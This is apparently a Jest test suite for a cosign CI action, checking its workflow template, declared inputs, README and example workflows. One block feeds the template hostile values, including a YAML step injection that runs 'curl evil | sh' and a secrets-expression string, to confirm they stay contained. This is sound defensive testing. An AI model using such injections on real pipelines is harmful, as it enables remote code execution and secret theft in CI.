import { describe, expect, it } from '@jest/globals'
import { existsSync, readFileSync, readdirSync } from 'node:fs'
import { parse } from 'yaml'
import { OPTIONS, resolveConfig } from '../src/config/index.js'
import { validateWorkflow } from '@action-validator/core'
import { renderTemplate } from '../scripts/render-template.mjs'

const declared = (): Set<string> => {
  const action = parse(readFileSync('action.yml', 'utf8')) as { inputs: Record<string, unknown> }
  return new Set(Object.keys(action.inputs))
}

type Workflow = { jobs: Record<string, { steps: { uses?: string; with?: Record<string, unknown> }[] }> }

function ourSteps(wf: Workflow) {
  return Object.values(wf.jobs).flatMap(j => j.steps.filter(s => s.uses?.includes('cosign-action') || s.uses === './'))
}

describe('templates/cosign-verify-images.yaml', () => {
  const raw = readFileSync('templates/cosign-verify-images.yaml', 'utf8')
  const placeholders = [...new Set(raw.match(/__[A-Z_]+__/g) ?? [])]

  it('documents every placeholder in its header comment', () => {
    const header = raw.split('\n').filter(l => l.startsWith('#')).join('\n')
    expect(placeholders.length).toBeGreaterThanOrEqual(5)
    for (const p of placeholders) expect(header).toContain(p)
  })

  describe('when rendered with sample values', () => {
    const values: Record<string, string> = {
      __FREMFORGE_URL__: 'https://frem.sh',
      __REQUIRE_SIGNED_IMAGES__: 'true',
      __ISSUER_ALLOWLIST__: 'https://token.actions.githubusercontent.com',
      __CERTIFICATE_IDENTITY_REGEXP__: '^https://github\\.com/acme/',
      __CERTIFICATE_OIDC_ISSUER_REGEXP__: '.*'
    }
    const rendered = renderTemplate(raw, values)
    const wf = parse(rendered) as Workflow & { on: unknown }

    it('is valid YAML with the push and pull_request triggers', () => {
      expect(Object.keys(wf.on as object)).toEqual(expect.arrayContaining(['push', 'pull_request']))
    })
    it('only uses inputs action.yml declares', () => {
      const inputs = declared()
      const steps = ourSteps(wf)
      expect(steps).toHaveLength(1)
      for (const key of Object.keys(steps[0].with ?? {})) expect(inputs).toContain(key)
      expect(steps[0].with?.mode).toBe('verify')
      expect(steps[0].with?.['require-signed']).toBe('true')
      expect(steps[0].with?.['certificate-identity-regexp']).toBe(values.__CERTIFICATE_IDENTITY_REGEXP__)
    })
    it('passes the fremforge token from a secret', () => {
      expect(rendered).toContain('FREMFORGE_API_TOKEN: ${{ secrets.FREMFORGE_API_TOKEN }}')
    })
  })
})

describe('templates/cosign-verify-images.yaml with hostile values', () => {
  const raw = readFileSync('templates/cosign-verify-images.yaml', 'utf8')
  const hostile: Record<string, string> = {
    __FREMFORGE_URL__: "https://frem.sh/#x' \n      - run: curl evil | sh",
    __REQUIRE_SIGNED_IMAGES__: "false'\n  evil: {job: 1}",
    __ISSUER_ALLOWLIST__: 'https://a.example\nhttps://b.example: x # not a comment',
    __CERTIFICATE_IDENTITY_REGEXP__: '[a-z]+@example\\.com',
    __CERTIFICATE_OIDC_ISSUER_REGEXP__: `^https://(a|b)\\.example$ *alias &anchor !!str "q" {x: [1]} %`
  }
  const wf = parse(renderTemplate(raw, hostile)) as Workflow & Record<string, unknown>

  it('keeps every value inside its input: no new key, job or step', () => {
    expect(Object.keys(wf.jobs)).toEqual(['verify-images'])
    expect(wf.jobs['verify-images'].steps).toHaveLength(2)
    const w = ourSteps(wf)[0].with ?? {}
    expect(Object.keys(w).sort()).toEqual(['certificate-identity-regexp', 'certificate-oidc-issuer-regexp', 'fremforge-url', 'issuer-allowlist', 'mode', 'require-signed'])
    expect(w['certificate-identity-regexp']).toBe(hostile.__CERTIFICATE_IDENTITY_REGEXP__)
    expect(w['certificate-oidc-issuer-regexp']).toBe(hostile.__CERTIFICATE_OIDC_ISSUER_REGEXP__)
    expect(w['issuer-allowlist']).toBe('https://a.example,https://b.example: x # not a comment')
    expect(String(w['fremforge-url'])).toContain('curl evil')
  })
  it('passes the workflow linter', () => {
    expect(validateWorkflow(renderTemplate(raw, hostile)).errors).toEqual([])
  })
  it('refuses a value the runner would evaluate', () => {
    expect(() => renderTemplate(raw, { ...hostile, __FREMFORGE_URL__: '${{ secrets.X }}' })).toThrow(/\$\{\{/)
  })
  it('quotes every placeholder', () => {
    const body = raw.split('\n').filter(l => !l.startsWith('#'))
    for (const line of body.filter(l => /__[A-Z_]+__/.test(l))) expect(line).toMatch(/: '__[A-Z_]+__'$/)
  })
  it('left unfilled, stops the action with INPUT_PLACEHOLDER naming the placeholder', () => {
    const w = ourSteps(parse(raw) as Workflow)[0].with as Record<string, string>
    let error: unknown
    try {
      resolveConfig(w, {})
    } catch (e) {
      error = e
    }
    expect(error).toMatchObject({ code: 'INPUT_PLACEHOLDER', details: { placeholder: '__FREMFORGE_URL__' } })
  })
  it('runs on the Forgejo runner as the README says', () => {
    const job = (parse(raw) as { jobs: Record<string, { 'runs-on': string; steps: { uses?: string }[] }> }).jobs['verify-images']
    expect(job['runs-on']).toBe('docker')
    expect(job.steps.map(s => s.uses)).toEqual(['https://code.forgejo.org/actions/checkout@v4', 'https://code.forgejo.org/fremforge/cosign-action@v1'])
  })
})

const KNOWN_CONTEXTS = new Set(['github', 'secrets', 'vars', 'steps', 'env', 'inputs', 'needs', 'matrix', 'runner', 'job', 'strategy'])

describe('workflows pass the workflow linter (@action-validator/core) and our runnability checks', () => {
  const files = [...readdirSync('examples').map(f => `examples/${f}`), 'templates/cosign-verify-images.yaml', ...readdirSync('.github/workflows').map(f => `.github/workflows/${f}`)]
  it.each(files)('%s', file => {
    const text = readFileSync(file, 'utf8')
    expect(validateWorkflow(text).errors).toEqual([])
    for (const m of text.matchAll(/\$\{\{\s*([a-z_]+)/g)) expect(KNOWN_CONTEXTS).toContain(m[1])
    const wf = parse(text) as { jobs: Record<string, { 'runs-on': string; container?: unknown; steps: { uses?: string; with?: Record<string, unknown> }[] }> } & Record<string, unknown>
    for (const job of Object.values(wf.jobs)) {
      if (job['runs-on'] !== 'docker') continue
      // Forgejo: the job container has no Docker daemon, and actions resolve by full URL.
      expect(job.steps.filter(s => s.uses?.startsWith('docker/'))).toEqual([])
      for (const s of job.steps) if (s.uses) expect(s.uses).toMatch(/^(https:\/\/|\.\/)/)
      const keyed = job.steps.some(s => s.with?.key !== undefined)
      if (keyed) expect(wf['enable-openid-connect']).toBeUndefined()
    }
  })
})

describe('example and repository workflows', () => {
  const files = [...readdirSync('examples').map(f => `examples/${f}`), ...readdirSync('.github/workflows').map(f => `.github/workflows/${f}`)]
  it.each(files)('%s only uses declared inputs of this action', file => {
    const wf = parse(readFileSync(file, 'utf8')) as Workflow
    const inputs = declared()
    for (const step of ourSteps(wf)) for (const key of Object.keys(step.with ?? {})) expect(inputs).toContain(key)
  })
})

describe('action.yml', () => {
  it('declares every non-CLI option of the option table, with its default', () => {
    const action = parse(readFileSync('action.yml', 'utf8')) as { inputs: Record<string, { default?: string }>; runs: { using: string; main: string } }
    const wanted = OPTIONS.filter(o => !o.cliOnly)
    expect(Object.keys(action.inputs)).toEqual(wanted.map(o => o.name))
    for (const o of wanted) expect(action.inputs[o.name].default).toBe(o.actionDefault ?? o.default)
    expect(action.runs).toEqual({ using: 'node24', main: 'dist/index.js' })
  })
  it('uses kebab-case names only', () => {
    for (const name of Object.keys((parse(readFileSync('action.yml', 'utf8')) as { inputs: object }).inputs)) expect(name).toMatch(/^[a-z][a-z0-9-]*$/)
  })
})

describe('README.md', () => {
  it('documents every input and output', () => {
    const readme = readFileSync('README.md', 'utf8')
    for (const o of OPTIONS) expect(readme).toContain(`\`${o.cliOnly ? `--${o.name}` : o.name}\``)
  })
})

describe('.github/workflows/e2e.yml', () => {
  it('points the action at fixture directories that exist', () => {
    const wf = parse(readFileSync('.github/workflows/e2e.yml', 'utf8')) as Workflow
    const paths = ourSteps(wf).map(s => String(s.with?.path ?? ''))
    expect(paths.length).toBeGreaterThan(0)
    for (const p of paths) expect(existsSync(p)).toBe(true)
  })
})
